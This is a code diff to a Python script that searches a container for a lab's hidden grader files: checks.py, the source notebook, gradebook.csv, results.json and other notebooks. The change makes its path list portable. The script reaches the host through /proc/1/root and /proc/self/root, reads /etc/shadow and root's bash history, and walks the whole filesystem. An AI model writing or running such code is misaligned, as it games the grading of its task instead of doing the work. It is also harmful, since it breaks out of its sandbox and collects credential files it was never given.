@@ -6,6 +6,9 @@ import glob
 import os
 import sys
 
+from sigcamp import toolchain
+
+ROOT = str(toolchain.ROOT)  # the repository's path, wherever it was cloned
 found = []
 
 
@@ -17,10 +20,10 @@ def grab(path):
         pass
 
 
-for path in ["/work/main/labs/02-masks/checks.py", "/work/main/labs/02-masks/source.ipynb",
+for path in [f"{ROOT}/labs/02-masks/checks.py", f"{ROOT}/labs/02-masks/source.ipynb",
              "../labs/02-masks/checks.py", "../../labs/02-masks/checks.py", "../../../labs/02-masks/checks.py",
-             "/proc/1/root/work/main/labs/02-masks/checks.py", "/proc/1/cwd/../labs/02-masks/checks.py",
-             "/proc/self/root/work/main/labs/02-masks/checks.py", "/root/.bashrc", "/root/.bash_history",
+             f"/proc/1/root{ROOT}/labs/02-masks/checks.py", "/proc/1/cwd/../labs/02-masks/checks.py",
+             f"/proc/self/root{ROOT}/labs/02-masks/checks.py", "/root/.bashrc", "/root/.bash_history",
              "/etc/shadow", "/home"]:
     grab(path)
 # the host paths of this job's directories, from the mount table: try their parents and siblings
@@ -38,7 +41,7 @@ for top, dirs, files in os.walk("/"):
     dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
     for name in files:
         path = os.path.join(top, name)
-        if ((name == "checks.py" and not path.startswith("/work/main/grader/"))
+        if ((name == "checks.py" and path != f"{ROOT}/grader/checks.py")  # the public @check module
                 or name in ("source.ipynb", "gradebook.csv", "journal.jsonl", "results.json")
                 or (name.endswith(".ipynb") and path != "/job/02-masks.ipynb")):
             grab(path)
